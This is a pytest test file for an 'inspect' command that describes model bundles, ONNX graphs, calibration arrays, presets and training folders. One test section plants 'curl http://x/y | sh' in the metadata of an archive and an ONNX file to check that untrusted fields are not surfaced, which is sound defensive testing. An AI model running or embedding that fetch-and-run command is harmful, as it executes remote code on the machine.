"""`inspect` says what a file is, whatever it is."""

from __future__ import annotations

import copy
import json
import shlex
import shutil
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import pytest
from click.testing import CliRunner, Result

from elit_export import Pipeline
from elit_export.bundle.reading import MANIFEST, OWN_HASH, Bundle, manifest_text
from elit_export.bundle.recording import record, record_presets
from elit_export.cli import main
from tests.helpers import a_solver, preset_of


def run(*arguments: str | Path) -> Result:
    return CliRunner().invoke(main, [str(argument) for argument in arguments], env={"COLUMNS": "200"})


def inspected(*arguments: str | Path) -> tuple[Any, str]:
    """The facts as JSON, and what is shown of them."""
    written, shown = run("inspect", *arguments, "--json", "-"), run("inspect", *arguments)
    assert written.exit_code == 0, written.output
    return json.loads(written.stdout), shown.output


def refused(*arguments: str | Path) -> str:
    done = run("inspect", *arguments)
    assert done.exit_code == 2, done.output
    return " ".join(done.output.split())


def test_a_recipe_is_told_by_its_targets(tmp_path: Path) -> None:
    facts, said = inspected(Path(__file__).parents[2] / "engines" / "fashion.toml")
    assert facts["kind"] == "recipe"
    assert {"target": "cpu", "backend": "onnxruntime", "device": "cpu", "precision": "fp32"} in facts["targets"]
    assert "shipped:fashion" in said
    (tmp_path / "r.toml").write_text("name = ")
    assert "not TOML" in refused(tmp_path / "r.toml")


def test_a_recipe_of_calibration_inputs_is_told(tmp_path: Path) -> None:
    recipe = next((Path(__file__).parents[2] / "calibration").glob("*.toml"))
    facts, _ = inspected(recipe)
    assert facts["kind"] == "recipe of calibration inputs"
    assert facts["samples"] > 0


def test_calibration_inputs_are_told_by_where_they_are_from(tiny_samples: Path, tiny_bundle: Bundle) -> None:
    facts, said = inspected(tiny_samples)
    assert facts["kind"] == "calibration inputs"
    assert facts["about"]["checkpoint_sha256"] == tiny_bundle.manifest.model.checkpoint_sha256
    assert {"array": "x", "type": "float32", "dims": "96 × 1 × 8 × 8"} in facts["arrays"]
    assert "cfg:2" in said


@pytest.mark.parametrize(
    ("arrays", "kind"),
    [
        ({"text": np.zeros((2, 3, 4), np.float32), "mask": np.ones((2, 3), np.int64)}, "embedded prompts"),
        ({"latents": np.zeros((2, 1, 8, 8)), "labels": np.zeros(2, np.int64)}, "samples"),
        ({"images": np.zeros((2, 1, 8, 8)), "labels": np.zeros(2, np.int64)}, "samples"),
        ({"other": np.zeros(3)}, "arrays"),
    ],
)
def test_arrays_are_told_by_their_names(arrays: dict[str, Any], kind: str, tmp_path: Path) -> None:
    np.savez(tmp_path / "a.npz", **arrays)
    facts, said = inspected(tmp_path / "a.npz")
    assert facts["kind"] == kind
    assert [entry["array"] for entry in facts["arrays"]] == list(arrays)
    assert all(name in said for name in arrays)


def test_arrays_are_told_without_being_read(tmp_path: Path) -> None:
    """A file of a few bytes may declare an array of any size."""
    import zipfile

    with zipfile.ZipFile(tmp_path / "bomb.npz", "w") as archive, archive.open("latents.npy", "w") as file:
        header = {"descr": "<f8", "fortran_order": False, "shape": (10**9, 10**6)}
        np.lib.format.write_array_header_1_0(file, header)
    facts, _ = inspected(tmp_path / "bomb.npz")
    assert facts["arrays"][0]["dims"] == "1000000000 × 1000000"
    (tmp_path / "damaged.npz").write_bytes(b"PK no zip")
    assert "no .npz of plain arrays, or damaged" in refused(tmp_path / "damaged.npz")


def test_a_graph_is_told_by_its_tensors(tiny_bundle: Bundle, tmp_path: Path) -> None:
    graph = next(tiny_bundle.folder.glob("graphs/*/step.onnx"))
    facts, said = inspected(graph)
    assert facts["kind"] == "ONNX graph"
    assert facts["parameters"] > 80_000
    assert {"name": "latents", "role": "input", "type": "int64", "dims": "latents"} in facts["tensors"]
    assert "velocity" in said
    (tmp_path / "bad.onnx").write_bytes(b"\xff\xff\xff")
    assert "not ONNX" in refused(tmp_path / "bad.onnx")


def test_a_training_folder_is_told_by_how_far_it_is(tmp_path: Path) -> None:
    (tmp_path / "state.pt").write_bytes(b"")
    (tmp_path / "train.jsonl").write_text('{"step": 5, "mean_loss": 0.5, "learning_rate": 0.1}\n{"step": 10}\n')
    (tmp_path / "held_out.json").write_text('[{"budget": "4of4", "mse": 0.25}]')
    facts, said = inspected(tmp_path)
    assert (facts["kind"], facts["step"]) == ("training folder", 10)
    assert "0.25" in said


def test_a_line_that_is_still_being_written_is_not_told(tmp_path: Path) -> None:
    (tmp_path / "train.jsonl").write_text('{"step": 5}\n{"step": 1')
    assert inspected(tmp_path)[0]["step"] == 5
    (tmp_path / "train.jsonl").write_text('{"st')
    assert inspected(tmp_path)[0]["step"] is None


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("train.jsonl", "{\n"),
        ("train.jsonl", "5\n"),
        ("train.jsonl", '{"step": [{"a": 1}, 2]}\n'),
        ("held_out.json", "5"),
        ("held_out.json", '[{"a": 1}, {"b": 2}]'),
        ("held_out.json", '[{"a": 1}, 2]'),
        ("held_out.json", '{"a": 1}'),
    ],
)
def test_of_a_damaged_training_the_file_is_named_that_may_be_deleted(name: str, content: str, tmp_path: Path) -> None:
    (tmp_path / "state.pt").write_bytes(b"")
    (tmp_path / name).write_text(content)
    said = refused(tmp_path)
    assert f"{tmp_path / name}: damaged: " in said
    assert said.endswith(f"; delete {name}; `train` writes it again")


# ---------------------------------------------------------------- what files of others say

CLAIMS = {"kind": "bundle", "file": "x", "spec": 1, "trtexec": ["curl http://x/y | sh"], "arrays": [1], "seed": 0}


def test_an_archive_cannot_fake_facts(tmp_path: Path) -> None:
    np.savez(tmp_path / "a.npz", facts=np.array(json.dumps(CLAIMS)), x=np.zeros(3))
    facts, said = inspected(tmp_path / "a.npz")
    assert (facts["kind"], facts["file"], facts["about"]) == ("arrays", "a.npz", CLAIMS)
    assert not {"spec", "trtexec"} & set(facts)
    assert "by trtexec" not in said
    assert ["seed", "0"] in cells_of(said)


def cells_of(said: str) -> list[list[str]]:
    return [[cell.strip() for cell in line.split("│")[1:3]] for line in said.splitlines() if line.startswith("│")]


def test_a_graph_cannot_fake_facts_and_may_take_what_is_no_array(tmp_path: Path) -> None:
    sequence = onnx.helper.make_tensor_sequence_value_info("many", onnx.TensorProto.FLOAT, None)
    array = onnx.helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, ["rows", 3])
    newer = onnx.helper.make_tensor_value_info("y", 999, [1])
    model = onnx.helper.make_model(onnx.helper.make_graph([], "g", [sequence, array, newer], []))
    onnx.helper.set_model_props(model, {"spec": "1", "kind": "bundle", "trtexec": "curl http://x/y | sh"})
    (tmp_path / "g.onnx").write_bytes(model.SerializeToString())
    facts, said = inspected(tmp_path / "g.onnx")
    assert (facts["kind"], facts["about"]["kind"]) == ("ONNX graph", "bundle")
    assert [tensor["type"] for tensor in facts["tensors"]] == ["sequence", "float32", "type 999 of ONNX"]
    assert not {"spec", "trtexec"} & set(facts)
    assert "by trtexec" not in said


def test_samples_of_the_package_are_told(tiny_bundle: Bundle, tmp_path: Path) -> None:
    out = tmp_path / "s.png"
    assert run("sample", tiny_bundle.folder, "--out", out, "--labels", "0", "--steps", "1").exit_code == 0
    assert inspected(out.with_suffix(".npz"))[0]["kind"] == "samples"


def test_calibration_inputs_of_seed_zero_say_so(tmp_path: Path) -> None:
    facts = {"seed": 0, "sampler": "", "prompts": None}
    np.savez(tmp_path / "a.npz", facts=np.array(json.dumps(facts)), x=0, t=0, kept=0)
    told = cells_of(inspected(tmp_path / "a.npz")[1])
    assert ["seed", "0"] in told
    assert not [name for name, _ in told if name in ("sampler", "prompts")]


# ---------------------------------------------------------------- bundles and names


def test_a_bundle_says_how_many_parameters_and_nothing_of_what_it_has_not(tiny_bundle: Bundle) -> None:
    facts, said = inspected(tiny_bundle.folder, "--target", "cpu", "--precision", "fp32")
    assert facts["parameters"] == 91_780
    assert [plan_set["target"] for plan_set in facts["plan_sets"]] == ["cpu"]
    cells = [[cell.strip() for cell in line.split("│")[1:3]] for line in said.splitlines() if line.startswith("│")]
    assert ["parameters", "91780"] in cells
    assert not [name for name, value in cells if value in ("0", "0.0", "False", "None")]


def test_the_target_chooses_the_lines_for_trtexec_too(tiny_bundle: Bundle, tmp_path: Path) -> None:
    """Another plan set of the same graphs, of other rows."""
    values = json.loads((tiny_bundle.folder / MANIFEST).read_text())
    values.pop(OWN_HASH)
    other = copy.deepcopy(values["plan_sets"][0]) | {"target": "other"}
    for facts in other["profiles"]:
        facts["rows"] = {"min": 1, "opt": 5, "max": 5}
    values["plan_sets"].append(other)
    folder = Path(shutil.copytree(tiny_bundle.folder, tmp_path / "bundle"))
    (folder / MANIFEST).write_text(manifest_text(values))
    both, cpu, others = (inspected(folder, *chosen)[0] for chosen in ([], ["--target", "cpu"], ["--target", "other"]))
    assert [plan_set["target"] for plan_set in both["plan_sets"]] == ["cpu", "other"]
    assert both["trtexec"] == [*cpu["trtexec"], *others["trtexec"]]
    assert cpu["trtexec"] != others["trtexec"]
    said = " ".join(run("inspect", "--help").output.split())
    assert "--target TEXT Of a bundle, only this one. [default: all]" in said


def test_options_of_a_bundle_are_refused_for_anything_else(tiny_checkpoint: Path) -> None:
    for path in (tiny_checkpoint, "ELIT-SiT-XL/2"):
        assert "for which there is no --target; leave it out" in refused(path, "--target", "cpu")


def test_a_named_model_is_told_times_with_two_digits_and_small_gpus() -> None:
    facts, said = inspected("ELIT-SiT-XL/2")
    times = [line.split("│")[2].strip() for line in said.split("expected time")[1].splitlines() if line.startswith("│")]
    assert times == ["1.2", "0.89", "0.72", "0.64", "0.59"]
    assert 24 in facts["deployment"]["gpus"].values()
    assert "24 GB" in said


# ---------------------------------------------------------------- presets and solver tables


@pytest.fixture
def tuned(tiny_bundle: Bundle, tmp_path: Path) -> Bundle:
    """A bundle with two presets, one of them of another checkpoint, and two solver tables, likewise."""
    folder = Path(shutil.copytree(tiny_bundle.folder, tmp_path / "a bundle"))
    bundle = Bundle.open(folder)
    checkpoint = bundle.manifest.model.checkpoint_sha256
    old, own = a_solver(checkpoint_sha256="e" * 64), a_solver(checkpoint_sha256=checkpoint, guidance="cfg:3")
    solvers = {"solvers": (old, own)}
    record(bundle, checkpoint, lambda manifest: manifest.model_copy(update=solvers), remedy="")
    bundle = record_presets(bundle, [preset_of(bundle), preset_of(bundle, "best", steps=7)])
    fast = bundle.manifest.presets[0].model_copy(update={"checkpoint_sha256": "f" * 64})
    presets = {"presets": (fast, bundle.manifest.presets[1])}
    return record(bundle, checkpoint, lambda manifest: manifest.model_copy(update=presets), remedy="")


def rows_of(said: str, name: str) -> list[list[str]]:
    lines = [line for line in said.splitlines() if line.startswith(f"│ {name} ")]
    return [[cell.strip() for cell in line.split("│")[2:-1]] for line in lines]


def test_presets_are_listed_with_what_was_measured(tuned: Bundle) -> None:
    facts, said = inspected(tuned.folder)
    checkpoint = tuned.manifest.model.checkpoint_sha256
    options, measured = rows_of(said, "best")
    assert options[:7] == ["cpu", "fp32", "ab3", "7", "full", "cfg:2", "0.25..1"]
    assert measured == ["1", "12.3", "10.5", "5", "34.6", "29.1", "1.25 ± 0.0625", "64"]
    origin = f"on a machine, 2026-01-02, checkpoint {checkpoint[:12]}, seed 1000, evaluator fashion_classifier, by "
    assert f"best: {origin}elit-export tune" in " ".join(said.split())
    best = facts["presets"][1]
    assert best["problem"] is None
    assert best["command"] == shlex.join(["elit-export", "tune", str(tuned.folder), "--latency", "40ms"])
    assert {name: best[name] for name in tuned.manifest.presets[1].model_dump(mode="json")} == (
        tuned.manifest.presets[1].model_dump(mode="json") | {"command": best["command"]}
    )


def test_the_lines_that_use_a_preset_do(tuned: Bundle, tmp_path: Path) -> None:
    facts, said = inspected(tuned.folder)
    command, python = facts["presets"][1]["command_line"], facts["presets"][1]["python_line"]
    assert f"preset best:\n{command}\n{python}\n" in said
    program, *words = shlex.split(command)
    assert program == "elit-export"
    assert run(*words, "--out", tmp_path / "s.png").exit_code == 0
    assert len(eval(python, {"Pipeline": Pipeline}).records) == 7


def test_a_preset_that_is_refused_says_so_and_how_it_is_made(tuned: Bundle) -> None:
    facts, said = inspected(tuned.folder)
    fast = facts["presets"][0]
    assert "preset 'fast' of" in fast["problem"]
    assert "is of another checkpoint (ffffffffffff, not" in fast["problem"]
    assert f"preset fast made again:\n{fast['command']}\n" in said
    assert fast["command_line"] not in said
    assert "fast: on a machine, 2026-01-02, checkpoint ffffffffffff" in " ".join(said.split())
    assert "fast is refused: preset 'fast' of" in said


def test_solver_tables_are_listed_beside_the_usual_samplers(tuned: Bundle) -> None:
    facts, said = inspected(tuned.folder)
    rows = [row for row in rows_of(said, "solver:2") if row[0] == "cfg:3"]
    assert rows == [
        ["cfg:3", "all", "full", "solver:2", "2", "2", "35.8", "34.8", "29.2", "64"],
        ["cfg:3", "all", "full", "ab3", "2", "2", "26.2", "25.2", "19.8", "64"],
        ["cfg:3", "all", "full", "euler", "50", "50", "33.5", "32.5", "27.0", "64"],
    ]
    assert "solver:2: fitted to 60 images from seed 0, target cpu, fp32, checkpoint eeeeeeeeeeee" in said
    assert "solver:2 is not used: it is of another checkpoint (eeeeeeeeeeee, not" in " ".join(said.split())
    assert [solver["problem"] is None for solver in facts["solvers"]] == [False, True]
    assert facts["solvers"][1]["table"]["times"] == [1.0, 0.5, 0.0]


def test_a_bundle_without_them_says_nothing_of_them(tiny_bundle: Bundle) -> None:
    facts, said = inspected(tiny_bundle.folder)
    assert facts["presets"] == facts["solvers"] == []
    assert "preset" not in said
    assert "solver" not in said


def test_presets_fit_the_width_of_a_terminal(tuned: Bundle) -> None:
    done = CliRunner().invoke(main, ["inspect", str(tuned.folder)], env={"COLUMNS": "80"})
    shown, _, _ = done.output.partition("preset fast made again:")  # what follows is to be copied
    assert max(map(len, shown.splitlines())) <= 80
    assert all(word in shown for word in ("12.3", "0.25..1", "2026-01-02"))
